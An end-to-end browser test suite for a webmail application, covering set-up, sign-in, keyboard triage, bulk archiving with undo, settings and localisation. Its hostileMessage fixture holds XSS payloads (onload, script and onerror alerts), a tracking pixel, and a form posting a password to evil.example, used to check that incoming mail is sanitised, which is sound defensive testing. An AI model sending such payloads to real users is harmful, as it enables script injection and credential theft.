import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { tellAtFailure } from '../fixtures/at-failure.ts'
import { asAnotherClient, flagsAtServer, loadUid } from '../fixtures/another-client.ts'
import { type BrowserUser, openBrowser } from '../fixtures/browser-user.ts'
import { deliver } from '../../packages/server-testing/src/servers/deliver.ts'
import { fillInServers } from '../fixtures/connect-form.ts'
import { type Dovecot, startDovecot } from '../../packages/server-testing/src/servers/dovecot.ts'
import { holdBack } from '../fixtures/hold-back.ts'
import { generateMailbox, loadMailbox } from '../fixtures/mailbox.ts'
import { type PlMail, startPlMail } from '../fixtures/plmail.ts'
import { signIn } from '../fixtures/sign-in.ts'
import { type SmtpSink, startSmtpSink } from '../../packages/server-testing/src/servers/smtp-sink.ts'
import { administrator } from '../../packages/server-testing/src/http/visitor.ts'
import { fitsItsWidth } from '../fixtures/page-width.ts'

/** What a person does on the first day, with a real browser and by keyboard where there are keys for it. */
const [user, password] = ['ada@example.org', 'mailbox password']
/** More than can be selected one by one. */
const digests = 205
const message = { subject: 'The newsletter of a stranger', id: 'stranger@example.net' }

let dovecot: Dovecot
let smtp: SmtpSink
let plmail: PlMail
let ada: BrowserUser

beforeAll(async () => {
  dovecot = await startDovecot()
  dovecot.addUser(user, password)
  smtp = await startSmtpSink({ users: { [user]: password } })
  await loadMailbox(dovecot, user, generateMailbox({ count: 300, seed: 11, until: new Date() }))
  await asAnotherClient(dovecot, user, 'INBOX', async (client) => {
    await client.mailboxCreate('Digests')
    for (let n = 1; n <= digests; n++)
      await client.append('Digests', digest(n), [], new Date(Date.UTC(2026, 0, n)))
  })
  await deliver(dovecot, user, hostileMessage())
  plmail = await startPlMail({ trusts: [dovecot, smtp] })
  ada = await openBrowser(plmail.address)
})
beforeEach(() => tellAtFailure(() => [plmail, ada]))
afterAll(async () => {
  await ada?.[Symbol.asyncDispose]()
  await plmail?.[Symbol.asyncDispose]()
  await smtp?.[Symbol.asyncDispose]()
  await dovecot?.[Symbol.asyncDispose]()
})

const row = (subject: string) => ada.page.getByRole('row').filter({ hasText: subject })
const openThread = () => ada.page.getByRole('region', { name: 'Conversation' })
const press = (...keys: string[]) => ada.press(...keys)
const flags = (folder: string) => flagsAtServer(dovecot, user, folder, message.id)

describe('from an empty installation to mail on the screen', () => {
  test('the set-up page makes the administrator', async () => {
    const { page } = ada
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(plmail.address)
    expect(await fitsItsWidth(page)).toBe(true)
    await page.setViewportSize({ width: 1440, height: 900 })
    expect(await ada.violations()).toEqual([])
    await page.getByLabel('Your name').fill(administrator.name)
    await page.getByLabel('Email address').fill(administrator.email)
    await page.getByLabel('Password').fill(administrator.password)
    await page.getByLabel('Date and number formats').selectOption('en-GB')
    await page.getByLabel('Time zone').selectOption('Europe/Berlin')
    await press('Enter')
    await page.getByRole('heading', { name: `Welcome, ${administrator.name}` }).waitFor()
    // What can be done stands before what cannot be done yet.
    const address = (await page.getByLabel('Email address').boundingBox())!
    const missing = (await page.getByText('Google isn’t set up on this server yet.').boundingBox())!
    expect(missing.y).toBeGreaterThan(address.y)
  })

  test('the sign-in page lets in with the password', async () => {
    const { page } = ada
    await page.context().clearCookies()
    await page.goto(plmail.address)
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    expect(await ada.violations()).toEqual([])
    await signIn(page)
    await page.getByRole('heading', { name: `Welcome, ${administrator.name}` }).waitFor()
    expect(await ada.violations()).toEqual([])
  })

  test('a connected mailbox shows its newest mail', async () => {
    const { page } = ada
    await page.getByLabel('Email address').fill(user)
    await press('Enter')
    await fillInServers(page, { password, dovecot, smtp })
    expect(await ada.violations()).toEqual([])
    await page.getByRole('button', { name: 'Connect' }).click()
    await row(message.subject).waitFor({ timeout: 90_000 })
    expect(await ada.violations()).toEqual([])
  })

  test('dates are written as chosen at set-up', async () => {
    const title = await row(message.subject).locator('time').getAttribute('title')
    // As the British write it, not the Americans.
    expect(title).toMatch(/^\p{L}+day,? \d{1,2} \p{L}+ \d{4}/u)
  })
})

describe('reading and deciding by keyboard', () => {
  test('a stranger’s message opens without script, form or request, and is read at the mail server', async () => {
    const { page } = ada
    await press('j', 'Enter')
    await openThread().getByRole('heading', { name: message.subject }).waitFor()
    const body = openThread().locator('iframe').contentFrame()
    await body.getByText('Dear reader').waitFor()
    expect(await body.locator('script:not([nonce]), form, [onload], [src^=http]').count()).toBe(0)
    await page.getByRole('button', { name: 'Show 1 image' }).waitFor()
    expect(await ada.violations()).toEqual([])
    await expect.poll(() => flags('INBOX')).toContain('\\Seen')
  })

  test('a star, and unread again', async () => {
    await press('s')
    await expect.poll(() => flags('INBOX')).toContain('\\Flagged')
    await press('Shift+U')
    await expect.poll(() => flags('INBOX')).not.toContain('\\Seen')
  })

  test.each([
    ['archive', 'e', 'Archived', 'Archive'],
    ['delete', '#', 'Moved to Trash', 'Trash'],
  ])('%s, and undo', async (_verb, key, announcement, folder) => {
    await press(key)
    await ada.page.getByText(announcement, { exact: true }).waitFor()
    await row(message.subject).waitFor({ state: 'detached' })
    await expect.poll(() => flags(folder), { timeout: 90_000 }).toBeDefined()
    expect(await flags('INBOX')).toBeUndefined()
    await press('z')
    await row(message.subject).waitFor()
    await expect.poll(() => flags('INBOX'), { timeout: 90_000 }).toBeDefined()
    expect(await flags(folder)).toBeUndefined()
    await press('Home')
  })
})

describe('everything in a list', () => {
  const inDigests = () =>
    asAnotherClient(dovecot, user, 'Digests', async (client) => {
      if (client.mailbox === false || client.mailbox.exists === 0) return []
      const messages = await client.fetchAll('1:*', { envelope: true, flags: true })
      return messages
        .map(({ envelope, flags: marks }) =>
          [envelope?.messageId ?? '', marks?.has('\\Seen'), marks?.has('\\Flagged')].join(' '),
        )
        .toSorted()
    })

  /** All of the folder, chosen as a whole; what lay in it before. */
  async function chooseAll(): Promise<string[]> {
    const { page } = ada
    // A second try begins where the first one did.
    if ((await inDigests()).length < digests)
      await asAnotherClient(dovecot, user, 'Archive', (client) =>
        client.messageMove({ from: 'daily@example.net' }, 'Digests'),
      )
    await page.locator('aside').getByRole('link', { name: 'Digests' }).click()
    await page.getByText(`${String(digests)} conversations`).waitFor()
    const before = await inDigests()
    expect(before).toHaveLength(digests)
    await press('* a')
    await page.getByRole('button', { name: `Select all ${String(digests)} conversations` }).click()
    await page.getByText(`All ${String(digests)} conversations in this list are selected.`).waitFor()
    return before
  }

  /** What hangs at the pointer, of which no picture of the page tells. */
  const noteDragImage = () =>
    ada.page.evaluate(
      () =>
        new Promise<string | null>((resolve) => {
          DataTransfer.prototype.setDragImage = (image) => resolve(image.textContent)
        }),
    )

  async function takeBack(doing: string, before: readonly string[]): Promise<void> {
    await ada.page.getByText(`${doing}: all ${String(digests)} messages done`).waitFor()
    await expect.poll(inDigests, { timeout: 90_000 }).toEqual([])
    await press('z')
    await ada.page.getByText(`${doing}: undone`).waitFor()
    await ada.page.getByText(`${String(digests)} conversations`).waitFor()
    await expect.poll(inDigests, { timeout: 90_000 }).toEqual(before)
  }

  test('is archived as a whole by the server, counted, and all of it taken back', async () => {
    const before = await chooseAll()
    expect(await ada.violations()).toEqual([])
    await press('e')
    await takeBack('Archiving', before)
  })

  test('is dragged as a whole by any of its rows, also by one beyond what can be selected one by one', async () => {
    const { page } = ada
    const before = await chooseAll()
    await page.getByRole('grid', { name: 'Conversations' }).evaluate((grid) => {
      grid.scrollTop = grid.scrollHeight
    })
    const last = page.getByRole('row').filter({ hasText: /Digest 1(?!\d)/ })
    await last.and(page.locator('[aria-selected=true]')).waitFor()
    const isDragged = noteDragImage()
    await last.dragTo(page.locator('aside').getByRole('link', { name: 'Archive' }))
    expect(await isDragged).toBe(`${String(digests)} conversations`)
    await takeBack('Moving', before)
    await press('g i')
    await row(message.subject).waitFor()
  })
})

describe('what another program does appears by itself', () => {
  const news = { subject: 'Written just now', id: 'just.now@example.net' }
  const elsewhere = (work: (uid: number, client: Parameters<typeof loadUid>[0]) => Promise<unknown>) =>
    asAnotherClient(dovecot, user, 'INBOX', async (client) => work((await loadUid(client, news.id))!, client))

  test('a new message, a star and a move', async () => {
    const { page } = ada
    await deliver(
      dovecot,
      user,
      `Message-ID: <${news.id}>\r\nFrom: New <new@example.net>\r\nSubject: ${news.subject}\r\n\r\nHello`,
    )
    await row(news.subject).waitFor()
    await elsewhere((uid, client) => client.messageFlagsAdd([uid], ['\\Flagged'], { uid: true }))
    await row(news.subject).getByRole('button', { name: 'Remove star' }).waitFor()
    await row(news.subject).getByText(news.subject).click()
    await openThread().getByRole('heading', { name: news.subject }).waitFor()
    await elsewhere((uid, client) => client.messageMove([uid], 'Archive', { uid: true }))
    await row(news.subject).waitFor({ state: 'detached' })
    await press('u')
    await page.getByText('No conversation open').waitFor()
  })
})

describe('every other screen', () => {
  test.each([
    ['move dialog', ['j', 'v']],
    ['commands', ['Control+k']],
    ['shortcuts', ['?']],
  ])('%s: no barrier', async (_name, keys) => {
    await press(...keys)
    await ada.page.getByRole('dialog').waitFor()
    expect(await ada.violations()).toEqual([])
    await press('Escape')
    await ada.page.getByRole('dialog').waitFor({ state: 'detached' })
  })

  test('a list that is on its way: no barrier', async () => {
    await using list = await holdBack(ada.page, 'List/query')
    await ada.page.goto(`${plmail.address}/mail/snoozed`)
    await list.requested
    await ada.page.getByRole('grid', { name: 'Conversations' }).getByRole('row').first().waitFor()
    expect(await ada.violations()).toEqual([])
    list.letGo()
    await ada.page.getByText('0 conversations').waitFor()
  })

  test.each([
    ['accounts', 'Accounts'],
    ['add-account', 'Add an account'],
    ['display', 'Display'],
    ['language', 'Language and time'],
    ['keyboard', 'Keyboard'],
    ['security', 'Security'],
    ['profile', 'Profile'],
    ['jobs', 'Jobs'],
  ])('settings: %s', async (page, heading) => {
    await ada.page.goto(`${plmail.address}/settings/${page}`)
    await ada.page.getByRole('heading', { name: heading, level: 1 }).waitFor()
    expect(await ada.violations()).toEqual([])
  })

  test('who somebody is can be changed, and a browser elsewhere is signed out', async () => {
    const { page } = ada
    const userAgent = 'Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0'
    const elsewhere = await page.context().browser()!.newContext({ userAgent })
    const otherPage = await elsewhere.newPage()
    await otherPage.goto(`${plmail.address}/login`)
    await signIn(otherPage)
    await otherPage.waitForURL((url) => url.pathname !== '/login')
    await page.goto(`${plmail.address}/settings/profile`)
    await page.getByLabel('Name').fill('Ada Lovelace')
    await page.getByRole('button', { name: 'Save name' }).click()
    await ada.seesToast(/^Saved$/)
    await page.getByRole('link', { name: 'Security' }).first().click()
    await page.getByRole('button', { name: 'Sign out Firefox on Linux' }).click()
    await ada.seesToast('Firefox on Linux signed out')
    await otherPage.goto(`${plmail.address}/settings/profile`)
    await otherPage.getByRole('heading', { name: 'Sign in' }).waitFor()
    await elsewhere.close()
  })

  test('the way dates are written can be changed', async () => {
    const { page } = ada
    await page.goto(`${plmail.address}/settings/language`)
    await page.getByLabel('Date and number formats').selectOption('en-US')
    await Promise.all([page.waitForEvent('load'), page.getByRole('button', { name: 'Save' }).click()])
    await page.goto(`${plmail.address}/mail/inbox`)
    const title = await row(message.subject).locator('time').getAttribute('title')
    expect(title).toMatch(/^\w+day, \w+ \d+, /)
  })

  test('every sentence can be German', async () => {
    const { page } = ada
    await page.goto(`${plmail.address}/settings/language`)
    await page.getByLabel('Language', { exact: true }).selectOption('de')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByRole('heading', { name: 'Sprache und Zeit' }).waitFor()
    expect(await ada.violations()).toEqual([])
    // What the server says, too.
    await page.goto(`${plmail.address}/settings/profile`)
    expect(await page.getByLabel('Ihr Name').inputValue()).toBe('Ada Lovelace')
    await page.getByRole('button', { name: 'Adresse ändern' }).click()
    await page.getByLabel('Anmeldeadresse').fill('ada@elsewhere.example')
    await page.getByLabel('Aktuelles Passwort').fill('not the password')
    await press('Enter')
    await page.getByText('Falsches Passwort.').waitFor()
    await page.goto(`${plmail.address}/settings/language`)
    await page.getByLabel('Sprache', { exact: true }).selectOption('en')
    await page.getByRole('button', { name: 'Speichern' }).click()
    await page.getByRole('heading', { name: 'Language and time' }).waitFor()
    await page.goto(`${plmail.address}/mail/inbox`)
  })

  test('signing out ends at the sign-in page, also for an address deep inside', async () => {
    const { page } = ada
    await page.getByRole('link', { name: 'Settings' }).click()
    await page.getByRole('link', { name: 'Security' }).click()
    await page.getByRole('button', { name: 'Sign out', exact: true }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.goto(`${plmail.address}/settings/display`)
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    expect(new URL(page.url()).searchParams.get('next')).toBe('/settings/display')
  })
})

test('the browser had nothing to complain about', () => {
  // The page that the service worker keeps asks who is there, and is told that nobody is.
  // And a password that is none was tried on purpose.
  const isExpected = (complaint: string) =>
    /401 \(Unauthorized\) \S+\/api\/session(\/token)?$|422 \(.+\) \S+\/api\/session\/email$/.test(complaint)
  expect(ada.complaints.filter((complaint) => !isExpected(complaint))).toEqual([])
})

function digest(n: number): string {
  const lines = [
    `Message-ID: <digest${n}@example.net>`,
    `Subject: Digest ${n}`,
    'From: Daily <daily@example.net>',
  ]
  return `${lines.join('\r\n')}\r\n\r\nDay ${n}`
}

function hostileMessage(): string {
  return [
    `Message-ID: <${message.id}>`,
    'From: Stranger <stranger@example.net>',
    `Subject: ${message.subject}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<body onload="alert(1)"><script>alert(2)</script><p>Dear reader</p>',
    '<img src="https://tracker.example/seen.gif" width="40" height="40" onerror="alert(3)">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form></body>',
  ].join('\r\n')
}
